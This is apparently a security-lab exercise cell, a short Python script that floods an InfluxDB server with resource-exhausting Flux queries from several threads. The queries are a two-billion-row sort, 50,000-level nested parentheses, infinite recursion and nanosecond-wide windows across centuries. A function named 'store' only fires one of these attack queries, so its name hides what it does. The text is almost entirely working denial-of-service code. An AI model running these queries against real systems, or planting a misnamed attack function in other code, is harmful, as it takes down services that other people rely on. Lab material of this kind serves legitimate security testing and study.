# tries = "sends Flux that never ends and holds billions of rows to the database, from many threads"
# lab = "92"
# neighbour = "91"
# attacks = ["92.2"]
# keeps = ["92.3"]
# %% ex-92-2
import threading

ENDLESS = """
import "generate"
import "array"
generate.from(count: 2000000000, fn: (n) => n * n, start: 2021-01-01T00:00:00Z, stop: 2031-01-01T00:00:00Z)
  |> map(fn: (r) => ({r with text: "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx" + string(v: r._value)}))
  |> sort(columns: ["text"])
"""
DEEP = "x = " + "(" * 50_000 + "1" + ")" * 50_000
RECURSIVE = "f = (x) => f(x: x)\nf(x: 1)\n"
WINDOWS = """
import "array"
array.from(rows: [{_time: 1970-01-01T00:00:00Z, _value: 1.0}, {_time: 2262-01-01T00:00:00Z, _value: 1.0}])
  |> window(every: 1ns, createEmpty: true)
"""


def ask(text):
    try:
        with InfluxDBClient(influx.url, influx.token, org=influx.org, timeout=20_000) as client:
            client.query_api().query(text)
    except BaseException as error:
        print(type(error), str(error)[:200])


for text in (ENDLESS, DEEP, RECURSIVE, WINDOWS) * 2:
    threading.Thread(target=ask, args=(text,), daemon=True).start()


def store(influx, bucket, value):
    ask(WINDOWS)
